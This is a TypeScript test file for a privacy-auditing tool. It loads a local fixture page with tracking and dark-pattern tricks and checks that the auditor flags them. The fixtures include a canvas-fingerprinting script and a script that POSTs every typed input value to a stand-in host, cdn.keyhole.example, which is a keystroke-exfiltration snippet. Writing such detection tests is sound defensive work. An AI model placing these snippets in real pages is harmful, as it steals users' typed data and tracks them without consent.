import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { asChildren } from '../as-children.ts';
import { launchBrowser } from '../browser/launch.ts';
import { systemTimer } from '../browser/within.ts';
import { evidenceOf } from '../checks/evidence.testing.ts';
import type { PersonaEvidence } from '../evidence.ts';
import { openFolder } from '../gather/open-folder.ts';
import { observe } from '../judge/observe.ts';
import { surroundingsOf } from '../surroundings.ts';
import { lookAtPage } from './look-at-page.ts';

const page = `<!doctype html><title>Elm</title><h1>Elm</h1>
<label>Year of birth <select>${Array.from({ length: 60 }, (_, one) => `<option${one === 20 ? ' selected' : ''}>${1960 + one}</option>`).join('')}</select></label>
<label><input type="checkbox" checked> Send me offers</label>
<label>E-mail <input type="email"></label><label>Password <input type="password"></label>
<a href="/privacy">Privacy</a>
<script src="http://cdn.sift.com/s.js"></script><script src="http://cdn.keyhole.example/keys.js"></script>
<div id="feed"></div>
<script>
navigator.geolocation.getCurrentPosition(({ coords }) => fetch('/near?' + coords.latitude + ',' + coords.longitude));
const more = () => { document.getElementById('feed').append(Object.assign(document.createElement('div'), { style: 'height:2000px' })); };
more();
addEventListener('scroll', () => { if (innerHeight + scrollY > document.documentElement.scrollHeight - 9) more(); });
setTimeout(() => Notification.requestPermission(), 300);
if (navigator.globalPrivacyControl) document.title = 'heeded';
</script>`;
const scripts: Readonly<Record<string, string>> = {
  'cdn.sift.com/s.js': `{ const canvas = document.createElement('canvas'); const pen = canvas.getContext('2d');
    pen.fillText('abcdefghijklm', 2, 15); canvas.toDataURL(); }`,
  'cdn.keyhole.example/keys.js': `document.addEventListener('mousemove', () => {});
    document.addEventListener('input', ({ target }) => fetch('http://cdn.keyhole.example/keys', { method: 'POST', body: target.value }));`,
};

let server: Server;
let browser: Browser;
const dir = mkdtempSync(join(tmpdir(), 'stairgate-look-'));

beforeAll(async () => {
  server = createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://any');
    const script = scripts[`${request.headers.host}${pathname}`];
    request.resume();
    response.setHeader('Access-Control-Allow-Origin', '*');
    if (script) {
      response.setHeader('Set-Cookie', 'id=1; Max-Age=8640000; SameSite=None; Secure');
      response.writeHead(200, { 'Content-Type': 'text/javascript' }).end(script);
    } else if (pathname === '/') response.writeHead(200, { 'Content-Type': 'text/html' }).end(page);
    else if (pathname === '/privacy') response.writeHead(200).end('We keep nothing.');
    else if (pathname === '/.well-known/gpc.json') response.writeHead(200).end('{"gpc":true}');
    else response.writeHead(404).end('No.');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const at = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await launchBrowser({
    reachesPublic: false,
    hosts: { 'cdn.sift.com': at, 'cdn.keyhole.example': at },
  });
});
afterAll(async () => {
  await browser.close();
  server.closeAllConnections();
  await new Promise((done) => server.close(done));
  rmSync(dir, { recursive: true, force: true });
});

const look = (path: string): Promise<PersonaEvidence> =>
  lookAtPage({
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}${path}`,
    place: 'GB',
    authority: null,
    seed: 'look',
    browser,
    browserVersion: browser.version(),
    folder: openFolder(dir),
    ...surroundingsOf('GB'),
    clock: Date.now,
    timer: systemTimer,
    version: '0',
  });

describe('a page', () => {
  let seen: PersonaEvidence;
  beforeAll(async () => {
    seen = await look('/');
  });

  test('is seen as a visitor sees it', () => {
    expect(seen.persona).toEqual({ id: 'visitor', role: 'visitor', age: null });
    expect(seen.screens.map(({ name }) => name)).toEqual(['page', 'notice 1']);
    expect(seen.notices.map(({ text }) => text)).toEqual(['We keep nothing.']);
    expect(seen.feed.heights!.at(-1)! - seen.feed.heights![0]!).toBeGreaterThan(4);
    // The second comes while the reviewer is at the page, which the browser takes for a press.
    expect(seen.asks.map(({ what, afterPress }) => [what, afterPress])).toEqual([
      ['geolocation', false],
      ['notifications', false],
    ]);
  });

  test('is typed into, and sends nothing by itself', () => {
    const typed = seen.requests.filter(({ carries }) => carries.some(({ where }) => where === 'body'));
    expect(new Set(typed.map(({ url, during }) => `${url} ${during}`))).toEqual(
      new Set(['http://cdn.keyhole.example/keys typeUnsent']),
    );
    expect(new Set(typed.flatMap(({ carries }) => carries.map(({ what }) => what)))).toEqual(
      new Set(['email', 'typed']),
    );
  });

  test('is watched for what its scripts do', () => {
    const did = seen.scriptActs!.map(({ what, script }) => `${what} ${new URL(script).hostname}`);
    expect(did.sort()).toEqual([
      'canvas-read cdn.sift.com',
      'keys-heard cdn.keyhole.example',
      'moves-heard cdn.keyhole.example',
    ]);
    const cookies = seen.storage.filter(({ where }) => where === 'cookie');
    expect(cookies.map(({ host, lasts }) => [host, lasts]).sort()).toEqual([
      ['cdn.keyhole.example', 8_640_000],
      ['cdn.sift.com', 8_640_000],
    ]);
  });

  test('is loaded again with Global Privacy Control, in requests of its own', () => {
    expect(seen.optOut!.says).toBe(true);
    expect(seen.optOut!.requests!.every(({ headers }) => headers['sec-gpc'] === '1')).toBe(true);
    expect(seen.requests.some(({ headers }) => 'sec-gpc' in headers)).toBe(false);
  });

  test('is judged by the checks that judge a review', () => {
    const evidence = evidenceOf(asChildren(seen, [8, 15]));
    const said = observe(evidence);
    const wrong = (persona: string) =>
      new Set(
        said
          .filter((one) => one.persona === persona && 'held' in one && !one.held)
          .map((one) => ('practice' in one ? one.practice : '')),
      );
    expect(wrong('child-8')).toEqual(
      new Set([
        'age-screen-neutral',
        'no-pre-ticked-boxes',
        'permissions-in-context',
        'no-identity-to-third-parties',
        'no-tracking-before-consent',
      ]),
    );
    expect(wrong('child-15')).toEqual(wrong('child-8'));
  });
});

test('a page that is not there is looked at as it is', async () => {
  const seen = await look('/nowhere');
  expect(seen.requests.map(({ status }) => status)).toContain(404);
  expect(seen.notices).toEqual([]);
});
